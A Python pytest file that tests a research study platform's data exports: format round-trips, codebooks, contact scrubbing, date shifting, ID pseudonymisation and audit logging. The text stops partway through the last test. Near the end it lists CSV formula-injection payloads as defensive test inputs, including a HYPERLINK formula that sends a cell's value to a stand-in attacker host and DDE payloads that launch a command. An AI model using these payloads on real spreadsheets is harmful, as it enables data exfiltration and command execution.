"""Exports round-trip: each format read back equals a direct query of the database; the codebook
covers every column; the Data Package validates (every format); SPSS/Stata carry value labels; no contact email
leaks; shifted dates keep intervals within a participant; free text can be dropped; audited."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pandas as pd
import pyarrow.dataset as ds
import pyreadstat
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, text
from sqlalchemy.engine import Engine

from analysis.deidentify import ID_SPACES
from analysis.export_formats import validate_package
from analysis.exports import ExportRefused, ExportResult, export_study, scrub
from analysis.features import conversation_features
from analysis.panel import panel
from chat import check_ins
from chat.models import Turn
from chat.reading import CONCERNS as READING_CONCERNS
from scheduler.service import save_profile
from study import audit, clock, validation
from study.db import session_scope
from study.models import AuditEntry, Participant, StaffRole
from study.safety import SafetyCheckIn
from surveys import registry
from surveys import service as survey_service
from surveys.models import SurveyAssignment
from tests import builders
from tests.analysis.builders import StudyBuilder
from tests.builders import make_staff

T0 = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)
MINUTE = dt.timedelta(minutes=1)
EMAILS = ["alice.private@example.org", "bob.secret@example.net"]
ACTOR = audit.Actor.system("tests")


@dataclass
class Built:
    slug: str
    alice: str
    bob: str


@pytest.fixture
def study(engine: Engine, example_protocol: str, frozen_clock: clock.FrozenClock) -> Built:
    build = StudyBuilder(engine, example_protocol)
    alice, bob = build.participant("wellbeing"), build.participant("control")
    with session_scope(engine) as session:
        for code, email in zip((alice, bob), EMAILS, strict=True):
            who = session.scalars(select(Participant).where(Participant.code == code)).one()
            save_profile(session, who, timezone="Europe/Berlin", contact_email=email)
        # Alice answers her baseline PERMA-Profiler (every item at the scale's middle).
        who = session.scalars(select(Participant).where(Participant.code == alice)).one()
        assignment = session.scalars(select(SurveyAssignment).where(
            SurveyAssignment.participant_id == who.id, SurveyAssignment.purpose == "baseline")).first()
        assert assignment is not None
        instrument = registry.get(session, assignment.instrument_id, assignment.instrument_version)
        answers = {item.id: int(((item.min or 0) + (item.max or 0)) // 2) if item.type in ("likert", "slider",
                                                                                           "number") else "ok"
                   for item in instrument.items}
        survey_service.submit(session, who, assignment.id, answers, "sub-1")

    c1 = build.start(alice, "coach")
    frozen_clock.advance(MINUTE)
    r1 = build.say(alice, c1, f"Mail me at {EMAILS[0]} or call +49 170 1234567 about the flat viewing",
                   "You're right. Is that wise?",
                   proposes="challenge/unsupported_framing", prompt_tokens=10, completion_tokens=5, cost_usd=0.001)
    build.reconsider(alice, c1, r1.id)
    frozen_clock.advance(2 * MINUTE)
    build.say(alice, c1, "I want to kill myself", "Please call 988 now.")
    with session_scope(engine) as session:  # an answer to its check-in, by button
        who = session.scalars(select(Participant).where(Participant.code == alice)).one()
        [check_in] = session.scalars(select(SafetyCheckIn.id)).all()
        check_ins.answer(session, who, c1, check_in, {"plan": "no", "behaviour": "declined"})
    frozen_clock.advance(2 * MINUTE)
    build.end(alice, c1, rating=6, decision=f"Stay, and write to {EMAILS[0]}")

    frozen_clock.set(T0 + dt.timedelta(days=1))
    c2 = build.start(bob, None)
    frozen_clock.advance(MINUTE)
    build.say(bob, c2, "Just tell me what to do", "Take the job.", cost_usd=0.01)
    frozen_clock.advance(MINUTE)
    build.end(bob, c2, rating=3)
    return Built(build.slug, alice, bob)


def read_back(result: ExportResult, table: str) -> pd.DataFrame:
    """A table as a DataFrame with the codebook's types, whatever the format."""
    spec = next(s for s in result.tables if s.name == table)
    if result.format == "csv":
        frame = pd.read_csv(result.out_dir / f"{table}.csv", dtype=str, keep_default_na=False)
    elif result.format == "parquet":
        frame = pd.read_parquet(result.out_dir / f"{table}.parquet")
    else:
        reader = pyreadstat.read_sav if result.format == "spss" else pyreadstat.read_dta
        extension = "sav" if result.format == "spss" else "dta"
        frame, _ = reader(str(result.out_dir / f"{table}.{extension}"), apply_value_formats=False)
        for column in spec.columns:
            codes = {code: value for value, code in column.value_codes().items()}
            if column.enum and column.type == "string":
                frame[column.name] = frame[column.name].map(codes)
            elif column.type == "string":
                frame[column.name] = frame[column.name].replace("", None)
    out = pd.DataFrame(index=frame.index)
    for column in spec.columns:
        values = frame[column.name].replace("", None) if result.format == "csv" else frame[column.name]
        if column.type == "datetime":
            out[column.name] = pd.to_datetime(values, utc=True, format="ISO8601" if result.format == "csv"
                                              else None).dt.floor("s")
        elif column.type in ("integer", "number"):
            out[column.name] = pd.to_numeric(values).astype("float64")
        elif column.type == "boolean":
            out[column.name] = values.map(lambda v: None if pd.isna(v) else v in (True, 1, 1.0, "true"))
        else:
            out[column.name] = values.map(lambda v: None if pd.isna(v) else str(v))
    return out


def db_frame(engine: Engine, sql: str, slug: str, dates: tuple[str, ...] = ()) -> pd.DataFrame:
    with engine.connect() as connection:
        frame = pd.read_sql(text(sql), connection, params={"slug": slug})
    for column in dates:
        frame[column] = pd.to_datetime(frame[column], utc=True).dt.floor("s")
    return frame


def same(exported: pd.DataFrame, expected: pd.DataFrame) -> None:
    """Same rows, same values: numbers as floats, datetimes as UTC datetimes; an empty string is
    missing (CSV cannot tell them apart)."""
    exported = exported[list(expected.columns)].reset_index(drop=True)
    for column in expected.columns:
        got, want = list(exported[column]), list(expected[column])
        assert len(got) == len(want), column
        for g, w in zip(got, want, strict=True):
            if w == "" or pd.isna(w):
                assert g == "" or pd.isna(g), (column, g, w)
            elif g == "" or pd.isna(g):
                raise AssertionError((column, g, w))
            elif isinstance(w, pd.Timestamp):
                assert g == w, (column, g, w)
            elif isinstance(w, int | float) and not isinstance(w, bool):
                assert float(g) == pytest.approx(float(w)), (column, g, w)
            else:
                assert g == w, (column, g, w)


IN_STUDY = "JOIN participants p ON p.id = {t}.participant_id JOIN studies s ON s.id = p.study_id WHERE s.slug = :slug"


@pytest.mark.parametrize("export_format", ["csv", "parquet", "spss", "stata"])
def test_every_format_reads_back_as_the_database(engine: Engine, study: Built, tmp_path: Path,
                                                 export_format: str) -> None:
    result = export_study(engine, study.slug, tmp_path / export_format, format=export_format,  # type: ignore[arg-type]
                          turns=True, actor=ACTOR, chunk_rows=2,  # 2 rows a chunk: appends are exercised
                          chunk_participants=1)  # conversations and panel one participant at a time
    assert result.row_counts["participants"] == 2
    assert result.row_counts["turns"] == 6, read_back(result, "turns")[["participant_code", "speaker", "seq"]]

    same(read_back(result, "participants"), db_frame(engine, (
        "SELECT code AS participant_code, arm, p.status, enrolled_at, withdrawn_at FROM participants p "
        "JOIN studies s ON s.id = p.study_id WHERE s.slug = :slug ORDER BY p.id"), study.slug,
        ("enrolled_at", "withdrawn_at")))
    same(read_back(result, "turns"), db_frame(engine, (
        "SELECT t.id AS turn_id, t.conversation_id, p.code AS participant_code, t.seq, t.speaker, t.role, "
        "t.content, t.created_at, t.stance, t.concern, t.prompt_tokens, t.cost_usd, t.reassurance_seeking, "
        "t.after_override "
        "FROM turns t " + IN_STUDY.format(t="t") + " ORDER BY t.id"), study.slug, ("created_at",)).assign(
        content=lambda f: f.content.map(scrub), reassurance_seeking=lambda f: f.reassurance_seeking.astype(bool),
        after_override=lambda f: f.after_override.astype(bool)))
    # The monitors' features of each message, from turns.features: Bob asked the assistant to decide
    # once (one day of reliance, not drift); replies carry none.
    turns = read_back(result, "turns")
    said = turns["speaker"] == "participant"
    monitors = turns[said][["participant_code", "dependence_signal", "reliance_days", "reliance_drift"]]
    assert [tuple(row) for row in monitors.itertuples(index=False)] == [
        (study.alice, False, 0, False), (study.alice, False, 0, False), (study.bob, True, 1, False)]
    assert turns[~said][["dependence_signal", "reliance_days", "reliance_drift"]].isna().all().all()
    # The reading of each participant message (every concern's probability, whom it is about) and the
    # classifier's score, as stored with it; replies carry none.
    with engine.connect() as connection:
        stored: dict[int, dict[str, Any]] = {turn_id: features for turn_id, features in connection.execute(
            select(Turn.id, Turn.features))}
    reading = [f"reading_{concern}" for concern in READING_CONCERNS]
    for message in turns[said].to_dict("records"):
        stored_features = stored[message["turn_id"]]
        assert [message[column] for column in reading] == pytest.approx(
            [stored_features["reading"][concern] for concern in READING_CONCERNS], abs=1e-6)
        assert (message["about"], message["crisis_score"]) == (stored_features["about"],
                                                               pytest.approx(stored_features["crisis_score"]))
    assert turns[~said][[*reading, "about", "crisis_score"]].isna().all().all()
    same(read_back(result, "decisions"), db_frame(engine, (
        "SELECT d.id AS decision_id, p.code AS participant_code, d.conversation_id, d.decided_at FROM decisions d "
        + IN_STUDY.format(t="d") + " ORDER BY d.id"), study.slug, ("decided_at",)))
    same(read_back(result, "followups"), db_frame(engine, (
        "SELECT f.id AS followup_id, p.code AS participant_code, f.followup_key, f.anchor_key, "
        "f.due_at AS intended_at, f.closes_at, f.sent_at, f.status FROM followups f "
        + IN_STUDY.format(t="f") + " ORDER BY f.id"), study.slug, ("intended_at", "closes_at", "sent_at")))
    same(read_back(result, "scores"), db_frame(engine, (
        "SELECT r.id AS response_id, p.code AS participant_code, r.instrument_id, sc.instrument_version, "
        "sc.name, sc.value, sc.n_items FROM survey_scores sc JOIN survey_responses r ON r.id = sc.response_id "
        + IN_STUDY.format(t="sc") + " ORDER BY sc.id"), study.slug))
    same(read_back(result, "safety_events"), db_frame(engine, (
        "SELECT e.id AS safety_event_id, p.code AS participant_code, e.category, e.created_at, e.level, "
        "e.page_since, 'risk_to_self' AS check_in, 'no' AS answer_plan, 'declined' AS answer_behaviour, "
        "NULL AS answer_wish_dead, NULL AS check_in_outcome, "  # not answered, and the answers decide nothing yet
        "'unreviewed' AS review_status FROM safety_events e " + IN_STUDY.format(t="e") + " ORDER BY e.id"),
        study.slug, ("created_at", "page_since")))
    assert list(read_back(result, "safety_events")["level"]) == ["escalation"]
    same(read_back(result, "consents"), db_frame(engine, (
        "SELECT p.code AS participant_code, v.version AS consent_version, c.signed_at, c.language, "
        "c.signed_text_sha256 "
        "FROM consent_signatures c JOIN consent_versions v ON v.id = c.consent_version_id "
        + IN_STUDY.format(t="c") + " ORDER BY c.id"), study.slug, ("signed_at",)))
    features = conversation_features(engine, study.slug)
    features["started_at"] = features["started_at"].dt.floor("s")
    features["ended_at"] = features["ended_at"].dt.floor("s")
    same(read_back(result, "conversations"), features.astype(object).where(features.notna(), None))
    whole = panel(engine, study.slug)
    exported_panel = read_back(result, "panel").sort_values(["participant_code"], kind="stable")
    for column in ("intended_at", "closes_at", "opened_at", "invitation_sent_at", "response_started_at",
                   "submitted_at", "enrolled_at", "withdrawn_at"):
        whole[column] = whole[column].dt.floor("s")
    spec = next(s for s in result.tables if s.name == "panel")  # Stata cuts names to 32 characters
    full_names = {c.description.rsplit("(full name: ", 1)[1][:-1]: c.name for c in spec.columns
                  if "(full name: " in c.description}
    same(exported_panel.reset_index(drop=True),
         whole.astype(object).where(whole.notna(), None).rename(columns=full_names))

    perma = read_back(result, "responses_perma_profiler")
    with engine.connect() as connection:
        answers = connection.execute(text(
            "SELECT r.answers FROM survey_responses r " + IN_STUDY.format(t="r")
            + " AND r.instrument_id = 'perma-profiler'"), {"slug": study.slug}).scalar_one()
    answers = json.loads(answers) if isinstance(answers, str) else answers
    row = perma.iloc[0]
    for item_id, value in answers.items():
        assert row[item_id.replace("-", "_")] == pytest.approx(value), item_id
    assert perma.iloc[0]["participant_code"] == study.alice


@pytest.mark.parametrize("export_format", ["csv", "parquet", "spss", "stata"])
def test_codebook_covers_every_column_and_validates(engine: Engine, study: Built, tmp_path: Path,
                                                   export_format: str) -> None:
    out = tmp_path / export_format
    result = export_study(engine, study.slug, out, format=export_format, turns=True,  # type: ignore[arg-type]
                          actor=ACTOR)
    package = json.loads((out / "datapackage.json").read_text())
    codebook = (out / "CODEBOOK.md").read_text()
    assert {r["path"] for r in package["resources"]} == {p.name for p in result.files[:len(result.tables)]}
    for resource, spec in zip(package["resources"], result.tables, strict=True):
        fields = [f["name"] for f in resource["schema"]["fields"]]
        assert all(f["description"] for f in resource["schema"]["fields"])
        if export_format == "csv":
            header = list(pd.read_csv(out / resource["path"], nrows=0).columns)
        elif export_format == "parquet":
            header = list(pd.read_parquet(out / resource["path"]).columns)
        else:
            reader = pyreadstat.read_sav if export_format == "spss" else pyreadstat.read_dta
            header = reader(str(out / resource["path"]), metadataonly=True)[1].column_names
        assert list(header) == fields, spec.name
        for name in fields:
            assert f"| `{name}` |" in codebook, name
    status = next(f for f in package["resources"][0]["schema"]["fields"] if f["name"] == "status")
    if export_format in ("spss", "stata"):  # the files hold codes, each labelled with its value
        assert {"value": 3, "label": "enrolled"} in status["categories"]
        assert status["constraints"]["enum"] == [c["value"] for c in status["categories"]]
    else:
        assert "enrolled" in status["constraints"]["enum"]
    report = validate_package(out / "datapackage.json")  # SPSS and Stata files read through ReadStat
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    readme = (out / "README.md").read_text()
    assert study.slug in readme
    assert "protocol versions: v1" in readme
    assert f"- packages: numpy {np.__version__}, pandas {pd.__version__}, " in readme
    assert "| turns | 6 |" in readme
    try:
        import analysis.panel  # noqa: F401
    except ImportError:
        assert "panel table is not yet available" in readme
    else:
        assert result.row_counts["panel"] > 0


@pytest.mark.parametrize("export_format", ["spss", "stata"])
def test_spss_and_stata_files_carry_value_labels(engine: Engine, study: Built, tmp_path: Path,
                                                 export_format: str) -> None:
    result = export_study(engine, study.slug, tmp_path, format=export_format, turns=True,  # type: ignore[arg-type]
                          actor=ACTOR)
    reader = pyreadstat.read_sav if export_format == "spss" else pyreadstat.read_dta
    extension = "sav" if export_format == "spss" else "dta"
    frame, meta = reader(str(tmp_path / f"participants.{extension}"), apply_value_formats=True)
    assert set(meta.variable_value_labels["status"].values()) >= {"enrolled", "withdrawn"}
    assert sorted(frame["status"]) == ["enrolled", "enrolled"]
    assert str(meta.column_names_to_labels["participant_code"]).startswith("Pseudonymous participant code")
    turns, meta = reader(str(tmp_path / f"turns.{extension}"), apply_value_formats=True)
    assert meta.variable_value_labels["reassurance_seeking"] == {0: "false", 1: "true"}
    assert set(turns["speaker"]) == {"participant", "assistant"}
    assert "challenge" in set(turns["stance"])
    _, meta = reader(str(tmp_path / f"responses_perma_profiler.{extension}"), metadataonly=True)
    assert any(meta.variable_value_labels.get(c) for c in meta.column_names if c not in ("purpose",))
    assert result.row_counts["turns"] == len(turns)


@pytest.mark.parametrize("export_format", ["csv", "parquet", "spss", "stata"])
def test_no_contact_email_in_any_exported_file(engine: Engine, study: Built, tmp_path: Path,
                                               export_format: str) -> None:
    export_study(engine, study.slug, tmp_path / "out", format=export_format, turns=True,  # type: ignore[arg-type]
                 actor=ACTOR)
    files = list((tmp_path / "out").iterdir())
    assert len(files) >= 10
    for path in files:
        content = path.read_bytes()
        for email in EMAILS:
            for encoding in ("utf-8", "utf-16-le"):
                assert email.encode(encoding) not in content, (path.name, email)
        assert b"1234567" not in content, path.name  # the phone number, scrubbed
    with engine.connect() as connection:  # ... though the message did contain it
        assert connection.scalar(text("SELECT count(*) FROM turns WHERE content LIKE :e"),
                                 {"e": f"%{EMAILS[0]}%"}) == 1


def test_scrub_replaces_emails_and_phone_numbers_but_not_dates() -> None:
    assert scrub("write to a.b+c@mail.example.co.uk today") == "write to [email] today"
    assert scrub("call +49 (170) 123-4567 or 0170/1234567") == "call [phone] or [phone]"
    assert scrub("on 2026-03-02 at 10:30, 3 times") == "on 2026-03-02 at 10:30, 3 times"


def pseudonyms(plain: ExportResult, shifted: ExportResult) -> dict[str, str]:
    """Whose new name is which: the fixture's two participants are in different arms."""
    before = read_back(plain, "participants").set_index("arm")["participant_code"]
    after = read_back(shifted, "participants").set_index("arm")["participant_code"]
    return {after[arm]: before[arm] for arm in before.index}


def aligned(plain: ExportResult, shifted: ExportResult, table: str,
            names: dict[str, str]) -> tuple[pd.DataFrame, pd.DataFrame]:
    """A table's rows in both exports in one order (by participant, then each participant's rows
    in their own order, which both exports keep), the shifted one under the real codes."""
    def ordered(frame: pd.DataFrame) -> pd.DataFrame:
        return frame.sort_values("participant_code", kind="stable").reset_index(drop=True)
    after = read_back(shifted, table)
    after["participant_code"] = after["participant_code"].map(names)
    return ordered(read_back(plain, table)), ordered(after)


def test_shift_dates_keeps_intervals_within_a_participant(engine: Engine, study: Built, tmp_path: Path) -> None:
    plain = export_study(engine, study.slug, tmp_path / "plain", format="parquet", turns=True, actor=ACTOR)
    shifted = export_study(engine, study.slug, tmp_path / "shifted", format="parquet", turns=True, actor=ACTOR,
                           shift_dates=True, shift_seed=7)
    names = pseudonyms(plain, shifted)
    assert sorted(names.values()) == sorted([study.alice, study.bob])
    assert sorted(names) == ["D0001", "D0002"]  # not their study codes
    tables = ("participants", "consents", "conversations", "turns", "decisions", "followups", "safety_events")
    offsets: dict[str, set[pd.Timedelta]] = {}
    for table in tables:
        before, after = aligned(plain, shifted, table, names)
        spec = next(s for s in plain.tables if s.name == table)
        for column in (c.name for c in spec.columns if c.type == "datetime"):
            moved = (before[column] - after[column]).dropna()
            for code, delta in zip(before.loc[moved.index, "participant_code"], moved, strict=True):
                offsets.setdefault(code, set()).add(delta)
    assert set(offsets) == {study.alice, study.bob}
    for deltas in offsets.values():
        [delta] = deltas  # one offset per participant, in every table and column
        assert delta.days >= 1
        assert delta == pd.Timedelta(days=delta.days)
    assert offsets[study.alice] != offsets[study.bob]  # seeded: two different draws

    def intervals(result: ExportResult) -> tuple[pd.Series, pd.Series]:
        people = read_back(result, "participants").set_index("arm")
        arms = people.reset_index().set_index("participant_code")["arm"]
        consents = read_back(result, "consents").assign(arm=lambda f: f["participant_code"].map(arms)).set_index("arm")
        conversations = read_back(result, "conversations").set_index("arm")
        return (consents["signed_at"] - people["enrolled_at"],
                conversations["ended_at"] - conversations["started_at"])
    for a, b in zip(intervals(plain), intervals(shifted), strict=True):
        pd.testing.assert_series_equal(a.sort_index(), b.sort_index())
    # Nothing else moves: the conversation features are the same.
    before, after = aligned(plain, shifted, "conversations", names)
    pd.testing.assert_series_equal(before["duration_seconds"], after["duration_seconds"])


def id_pairs(plain: ExportResult, shifted: ExportResult, names: dict[str, str]) -> dict[str, set[tuple[int, int]]]:
    """Per id space, every (id, new id) the two exports put side by side, over every table."""
    pairs: dict[str, set[tuple[int, int]]] = {}
    for spec in plain.tables:
        before, after = aligned(plain, shifted, spec.name, names)
        for column in (c.name for c in spec.columns if c.name in ID_SPACES):
            both = pd.DataFrame({"id": before[column], "new": after[column]}).dropna()
            pairs.setdefault(ID_SPACES[column], set()).update(
                (int(a), int(b)) for a, b in zip(both["id"], both["new"], strict=True))
        if "anchor_key" in before.columns:
            anchors = pd.DataFrame({"id": before["anchor_key"], "new": after["anchor_key"]}).dropna()
            anchors = anchors[anchors["id"].str.startswith("decision:")]
            pairs["decisions"].update((int(a.split(":")[1]), int(b.split(":")[1]))
                                      for a, b in zip(anchors["id"], anchors["new"], strict=True))
    return pairs


def test_a_deidentified_export_renames_every_id_the_same_way_in_every_table(
    engine: Engine, study: Built, tmp_path: Path,
) -> None:
    plain = export_study(engine, study.slug, tmp_path / "plain", format="parquet", turns=True, actor=ACTOR)
    shifted = export_study(engine, study.slug, tmp_path / "shifted", format="parquet", turns=True, actor=ACTOR,
                           shift_dates=True, shift_seed=7)
    again = export_study(engine, study.slug, tmp_path / "again", format="parquet", turns=True, actor=ACTOR,
                         shift_dates=True, shift_seed=8)
    # Every id column of every table is renamed (a new one must be added to ID_SPACES).
    ids = {c.name for spec in plain.tables for c in spec.columns if c.name.endswith("_id") and c.type == "integer"}
    assert ids <= set(ID_SPACES), ids - set(ID_SPACES)
    pairs = id_pairs(plain, shifted, pseudonyms(plain, shifted))
    assert set(pairs) == set(ID_SPACES.values())
    for space, found in pairs.items():
        old = {a for a, _ in found}
        new = {b for _, b in found}
        assert len(old) == len(new) == len(found), space  # one new id per id, the same in every table
        assert old != new, space
        assert all(1 <= b < 2 ** 32 for b in new), space
    # Another export draws other names.
    other = id_pairs(plain, again, pseudonyms(plain, again))
    assert all(dict(pairs[space]) != dict(other[space]) for space in pairs)


ENROLLED = 30


def test_a_deidentified_export_tells_nothing_of_who_enrolled_when(engine: Engine, example_protocol: str,
                                                                  frozen_clock: clock.FrozenClock,
                                                                  tmp_path: Path) -> None:
    """30 participants enroll one after another, each writes "I am number <i>" and decides
    "decision <i>": in the de-identified export, neither the rows' order nor any id or code goes
    with <i>, and every table still joins to the right participant."""
    build = StudyBuilder(engine, example_protocol)
    for i in range(ENROLLED):
        frozen_clock.advance(dt.timedelta(hours=1))
        code = build.participant("wellbeing" if i % 2 else "control")
        conversation = build.start(code, "coach" if i % 2 else None)
        build.say(code, conversation, f"I am number {i}", "Noted.")
        build.end(code, conversation, rating=4, decision=f"decision {i}")
    result = export_study(engine, build.slug, tmp_path, format="parquet", turns=True, actor=ACTOR,
                          shift_dates=True, shift_seed=3, chunk_rows=7,
                          chunk_participants=4)  # 8 buckets of participants, read 7 rows at a time
    table = {spec.name: read_back(result, spec.name) for spec in result.tables}
    turns = table["turns"]
    said = turns[turns["speaker"] == "participant"]
    number = dict(zip(said["participant_code"], said["content"].str.extract(r"(\d+)$", expand=False).astype(int),
                      strict=True))
    assert sorted(number.values()) == list(range(ENROLLED))
    assert set(table["participants"]["participant_code"]) == set(number)

    def correlation(values: pd.Series, codes: pd.Series) -> float:
        return float(pd.Series(values.to_numpy()).corr(pd.Series(codes.map(number).to_numpy()), method="spearman"))

    checked = 0
    for name, frame in table.items():
        if frame.empty or name == "safety_events":
            continue
        codes = frame["participant_code"]
        # A plain export lists every table in enrollment order (correlation 1); here no order is left.
        assert abs(correlation(pd.Series(range(len(frame))), codes)) < 0.6, name
        for column in [c for c in frame.columns if c in ID_SPACES and frame[c].notna().any()]:
            assert abs(correlation(frame[column], codes)) < 0.6, (name, column)
            checked += 1
    assert abs(correlation(table["participants"]["participant_code"].str[1:].astype(int),
                           table["participants"]["participant_code"])) < 0.6
    assert checked >= 10
    # The tables join as before: each decision to its conversation and its participant's message,
    # each follow-up anchored on a decision to that decision, each score to its response.
    decisions = table["decisions"].merge(table["conversations"][["conversation_id", "participant_code"]],
                                         on="conversation_id", suffixes=("", "_of_conversation"))
    assert len(decisions) == ENROLLED
    assert (decisions["participant_code"] == decisions["participant_code_of_conversation"]).all()
    assert (decisions["text"] == "decision " + decisions["participant_code"].map(number).astype(str)).all()
    assert set(turns["conversation_id"]) == set(table["conversations"]["conversation_id"])
    followups = table["followups"]
    anchored = followups[followups["anchor_key"].str.startswith("decision:")]
    by_decision = table["decisions"].set_index("decision_id")["participant_code"]
    assert len(anchored) == 2 * ENROLLED  # two regret follow-ups per decision
    assert (anchored["anchor_key"].str.removeprefix("decision:").astype(int).map(by_decision)
            == anchored["participant_code"]).all()
    exits = table["responses_immediate_rating"]
    by_conversation = table["conversations"].set_index("conversation_id")["participant_code"]
    assert (exits["context_conversation_id"].map(by_conversation) == exits["participant_code"]).all()
    responses = pd.concat([table[n][["response_id", "participant_code"]] for n in table if n.startswith("responses_")])
    scores = table["scores"].merge(responses, on="response_id", suffixes=("", "_of_response"))
    assert len(scores) == len(table["scores"]) > 0
    assert (scores["participant_code"] == scores["participant_code_of_response"]).all()
    panel_decisions = table["panel"].dropna(subset=["decision_id"])
    assert (panel_decisions["decision_id"].map(by_decision) == panel_decisions["participant_code"]).all()


def test_drop_free_text_drops_the_free_text_columns(engine: Engine, study: Built, tmp_path: Path) -> None:
    kept = export_study(engine, study.slug, tmp_path / "kept", format="csv", turns=True, actor=ACTOR)
    dropped = export_study(engine, study.slug, tmp_path / "dropped", format="csv", turns=True, actor=ACTOR,
                           drop_free_text=True)
    assert "content" in read_back(kept, "turns").columns
    assert "[email]" in " ".join(read_back(kept, "turns")["content"].dropna())
    assert "text" in read_back(kept, "decisions").columns
    turns = pd.read_csv(tmp_path / "dropped" / "turns.csv")
    decisions = pd.read_csv(tmp_path / "dropped" / "decisions.csv")
    assert "content" not in turns.columns
    assert "rationale" not in turns.columns
    assert "text" not in decisions.columns
    assert len(turns) == 6
    assert len(decisions) == 1
    assert "Stay" not in (tmp_path / "dropped" / "decisions.csv").read_text()
    assert not any(c.free_text for spec in dropped.tables for c in spec.columns)


def test_a_partitioned_parquet_export_holds_the_same_rows_in_parts_by_study(engine: Engine, study: Built,
                                                                          tmp_path: Path) -> None:
    plain = export_study(engine, study.slug, tmp_path / "plain", format="parquet", turns=True, actor=ACTOR)
    parted = export_study(engine, study.slug, tmp_path / "parted", format="parquet", turns=True, actor=ACTOR,
                          partitioned=True, rows_per_file=2, chunk_rows=2)  # 2 rows a chunk and a part
    assert parted.row_counts == plain.row_counts
    assert [spec.name for spec in parted.tables] == [spec.name for spec in plain.tables]
    out = tmp_path / "parted"
    package = json.loads((out / "datapackage.json").read_text())
    for resource, spec in zip(package["resources"], parted.tables, strict=True):
        folder = out / spec.name / f"study={study.slug}"
        parts = sorted(folder.iterdir())
        assert resource["path"] == [part.relative_to(out).as_posix() for part in parts], spec.name
        assert {part.name for part in parts} == {f"part-{n:05d}.parquet" for n in range(len(parts))}
        read = ds.dataset(out / spec.name, format="parquet", partitioning="hive").to_table().to_pandas()
        assert set(read.pop("study").astype(str)) == ({study.slug} if len(read) else set()), spec.name
        pd.testing.assert_frame_equal(read, pd.read_parquet(tmp_path / "plain" / f"{spec.name}.parquet"),
                                      check_dtype=False, obj=spec.name)
    assert [len(pd.read_parquet(part)) for part in sorted((out / "turns" / f"study={study.slug}").iterdir())] == [
        2, 2, 2]
    assert not list(out.glob("*.parquet"))
    report = validate_package(out / "datapackage.json")  # every part against its table's schema
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert "partitioned by study" in (out / "README.md").read_text()
    # As the README says to read it: DuckDB, the study from the folder's name.
    found = duckdb.connect().execute(f"SELECT study, count(*) FROM read_parquet('{out}/turns/*/*.parquet', "
                                     "hive_partitioning = true) GROUP BY study").fetchall()
    assert found == [(study.slug, 6)]
    # De-identified too: the rows go through the shuffle into the parts.
    shifted = export_study(engine, study.slug, tmp_path / "shifted", format="parquet", turns=True, actor=ACTOR,
                           partitioned=True, rows_per_file=2, shift_dates=True, shift_seed=3)
    assert shifted.row_counts == plain.row_counts
    with pytest.raises(ValueError, match="Parquet"):
        export_study(engine, study.slug, tmp_path / "csv", format="csv", partitioned=True, actor=ACTOR)


def test_every_export_is_audited_and_viewers_are_refused(engine: Engine, study: Built, tmp_path: Path) -> None:
    make_staff(engine, study.slug, StaffRole.RESEARCHER, "res@example.org")
    make_staff(engine, study.slug, StaffRole.VIEWER, "viewer@example.org")
    result = export_study(engine, study.slug, tmp_path / "a", format="csv", shift_dates=True,
                          actor=audit.Actor("staff", "res@example.org"))
    with engine.connect() as connection:
        entry = connection.execute(select(AuditEntry).where(AuditEntry.action == "study.export")).one()
    assert (entry.actor_type, entry.actor) == ("staff", "res@example.org")
    assert entry.detail["format"] == "csv"
    assert entry.detail["options"] == {"turns": False, "shift_dates": True, "drop_free_text": False}
    assert entry.detail["row_counts"] == result.row_counts
    with pytest.raises(ExportRefused):
        export_study(engine, study.slug, tmp_path / "b", format="csv", actor=audit.Actor("staff", "viewer@example.org"))
    with engine.connect() as connection:
        assert connection.scalar(select(AuditEntry.seq).where(AuditEntry.action == "study.export")
                                 .order_by(AuditEntry.seq.desc()).limit(1)) == entry.seq


def test_staff_download_an_export_as_a_zip_and_it_is_audited(engine: Engine, app_client: TestClient,
                                                             study: Built) -> None:
    token = make_staff(engine, study.slug, StaffRole.RESEARCHER, "dl@uni.example")
    response = app_client.get(f"/api/v1/staff/studies/{study.slug}/exports", params={"format": "parquet"},
                              headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/zip"
    bundle = zipfile.ZipFile(io.BytesIO(response.content))
    assert {f"{study.slug}/datapackage.json", f"{study.slug}/participants.parquet"} <= set(bundle.namelist())
    assert not any(email.encode() in bundle.read(name) for name in bundle.namelist() for email in EMAILS)
    with engine.connect() as connection:
        actors = connection.execute(text("SELECT actor FROM audit_log WHERE action = 'study.export'")).scalars()
        assert list(actors) == ["dl@uni.example"]


# Formula injection: what participants write reaches the CSV files as text no spreadsheet runs.

INJECTIONS = ['=HYPERLINK("https://evil.example/?d="&A1,"see")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "   =1+1", "\n @SUM(A1)", "'=quoted"]


def formula_like(cell: str) -> bool:
    """What a spreadsheet might read as a formula (written from OWASP's list, not from the library)."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\0") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def unzip(response: Any) -> dict[str, bytes]:
    assert response.status_code == 200, response.text
    bundle = zipfile.ZipFile(io.BytesIO(response.content))
    return {name.split("/", 1)[1]: bundle.read(name) for name in bundle.namelist()}


def test_text_written_by_participants_never_reaches_a_csv_cell_as_a_formula(
    engine: Engine, app_client: TestClient, example_protocol: str, tmp_path: Path,
) -> None:
    slug = builders.load_study(engine, example_protocol)
    [invite] = builders.make_invites(engine, slug)
    who = builders.enroll_fully(app_client, invite)
    builders.put_in_arm(engine, who.code, "control")  # the standard assistant: no role to choose
    written: dict[str, list[str]] = {"turns": [], "decisions": [], "responses_goal_progress": []}
    for n, payload in enumerate(INJECTIONS):
        conversation = builders.start_chat(app_client, who, None)
        builders.say(app_client, who, conversation, payload)
        ended = app_client.post(f"/api/v1/me/conversations/{conversation}/end", headers=who.headers,
                                json={"rating": 4, "made_decision": True, "decision": payload})
        assert ended.status_code == 200, ended.text
        survey = builders.assign_survey(engine, who.code, "goal-progress")
        answers = {"answers": {"progress": 3, "note": payload}, "submission_id": f"goal-{n:04d}"}
